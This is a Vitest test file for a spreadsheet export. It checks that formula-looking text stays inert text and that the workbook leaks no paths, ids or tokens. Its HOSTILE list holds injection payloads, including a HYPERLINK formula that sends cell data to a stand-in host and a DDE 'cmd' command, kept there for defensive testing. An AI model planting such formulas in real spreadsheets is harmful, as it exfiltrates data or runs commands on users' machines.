import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { QueueItem } from '../../shared/contract/ipc.ts'
import { writeUnsentWorkbook } from '../../main/data-service/export/unsent-workbook.ts'
import { textsInZip } from '../support/zip-texts.ts'

const folder = mkdtempSync(path.join(tmpdir(), 'frontline-exports-'))
afterAll(() => rmSync(folder, { recursive: true }))

const HOSTILE = [
  '=HYPERLINK("https://evil.test/?"&A1,"more")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '</t><f>1+1</f><t>',
]
const anItem = (message: string, i: number): QueueItem => ({
  opId: '5f3a8a52-6d7e-4d3c-9a8e-0c6f3d1b2a01',
  siteId: '0427',
  value: -96_000_000,
  base: null,
  gesture: { id: '5f3a8a52-6d7e-4d3c-9a8e-0c6f3d1b2a02', label: message },
  editedAt: '2026-04-10T14:10:00Z',
  mark: { lineId: 'valetDaily', period: `2026-04-${String(i + 10)}`, kind: 'rejected', message },
})

let parts: ReadonlyMap<string, string>
beforeAll(async () => {
  const file = path.join(folder, 'Unsent edits.xlsx')
  await writeUnsentWorkbook(HOSTILE.map(anItem), file, Date.parse('2026-04-10T15:00:00Z'))
  parts = await textsInZip(file)
})

test('text that looks like a formula is text in a workbook, and a negative number stays a number', () => {
  const sheet = parts.get('xl/worksheets/sheet1.xml') ?? ''
  expect(sheet).not.toMatch(/<f[ >]/)
  expect(sheet.match(/<v>-96<\/v>/g)).toHaveLength(HOSTILE.length)
  expect(parts.get('xl/sharedStrings.xml')).toContain('=HYPERLINK(')
  expect([...parts.keys()].filter((name) => /externalLink|macro|vba|connections/i.test(name))).toEqual([])
})

test('a workbook holds nothing but what was asked for: no name of a person, no path, no id, no token', () => {
  const all = [...parts].map(([name, text]) => `${name}\n${text}`).join('\n')
  for (const secret of [folder, tmpdir(), '5f3a8a52', 'eyJ', 'root', process.env['HOME'] ?? '/root'])
    expect([secret, all.includes(secret)]).toEqual([secret, false])
  const core = parts.get('docProps/core.xml') ?? ''
  expect(/<dc:creator>(.*?)<\/dc:creator>/.exec(core)?.[1]).toBe('Frontline')
})
